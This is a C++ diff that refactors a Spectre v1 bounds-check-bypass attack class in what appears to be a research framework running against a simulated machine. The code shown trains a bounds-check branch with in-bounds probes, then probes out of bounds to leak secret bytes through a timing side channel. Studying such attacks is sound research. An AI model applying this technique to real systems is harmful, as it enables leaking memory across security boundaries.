@@ -3,16 +3,16 @@
 namespace whisper::core {
 
 TetSpectreV1::TetSpectreV1(os::Machine& m, Options opt)
-    : Attack(m, "v1", opt),
+    : ChannelAttack(m, "v1", opt, Polarity::Max, /*default_batches=*/3),
       trainings_per_probe_(opt.trainings_per_probe),
       gadget_(make_spectre_v1_gadget()) {
-  install_victim(m_);
+  install_victim();
 }
 
-void TetSpectreV1::install_victim(os::Machine& m) const {
-  m.poke64(kLenAddr, kArrayLen);
+void TetSpectreV1::install_victim() {
+  m_.poke64(kLenAddr, kArrayLen);
   for (std::uint64_t i = 0; i < kArrayLen; ++i)
-    m.poke8(kArrayBase + i, static_cast<std::uint8_t>(i));
+    m_.poke8(kArrayBase + i, static_cast<std::uint8_t>(i));
 }
 
 std::uint64_t TetSpectreV1::probe(std::uint64_t index, int test_value,
@@ -27,42 +27,22 @@ std::uint64_t TetSpectreV1::probe(std::uint64_t index, int test_value,
   return run_tote(m_, gadget_, regs);
 }
 
-std::uint8_t TetSpectreV1::leak_byte_into(std::uint64_t secret_vaddr,
-                                          AttackResult& r) {
-  analyzer_.reset();
+void TetSpectreV1::sweep(std::uint64_t secret_vaddr, int /*batch*/,
+                         AttackResult& r) {
   const std::uint64_t oob_index = secret_vaddr - kArrayBase;
-
-  return decode_adaptive(r, analyzer_, kDefaultBatches, [&] {
-    for (int tv = 0; tv <= 255; ++tv) {
-      // Train the bounds branch in-bounds (predicted not-taken)…
-      for (int t = 0; t < trainings_per_probe_; ++t)
-        (void)probe(static_cast<std::uint64_t>(t) % kArrayLen, tv, r);
-      // …then probe out of bounds: the access runs transiently.
-      analyzer_.add(tv, probe(oob_index, tv, r));
-    }
-  });
+  for (int tv = 0; tv <= 255; ++tv) {
+    // Train the bounds branch in-bounds (predicted not-taken)…
+    for (int t = 0; t < trainings_per_probe_; ++t)
+      (void)probe(static_cast<std::uint64_t>(t) % kArrayLen, tv, r);
+    // …then probe out of bounds: the access runs transiently.
+    analyzer_.add(tv, probe(oob_index, tv, r));
+  }
 }
 
 void TetSpectreV1::execute(std::span<const std::uint8_t> payload,
                            AttackResult& r) {
   m_.poke_bytes(kArrayBase + kSecretOffset, payload);
-  r.bytes.reserve(payload.size());
-  for (std::size_t i = 0; i < payload.size(); ++i)
-    r.bytes.push_back(leak_byte_into(kArrayBase + kSecretOffset + i, r));
-}
-
-std::uint8_t TetSpectreV1::leak_byte(std::uint64_t secret_vaddr) {
-  AttackResult scratch;
-  return leak_byte_into(secret_vaddr, scratch);
-}
-
-std::vector<std::uint8_t> TetSpectreV1::leak(std::uint64_t secret_vaddr,
-                                             std::size_t len) {
-  std::vector<std::uint8_t> out;
-  out.reserve(len);
-  for (std::size_t i = 0; i < len; ++i)
-    out.push_back(leak_byte(secret_vaddr + i));
-  return out;
+  decode_bytes(kArrayBase + kSecretOffset, payload.size(), r);
 }
 
 }  // namespace whisper::core
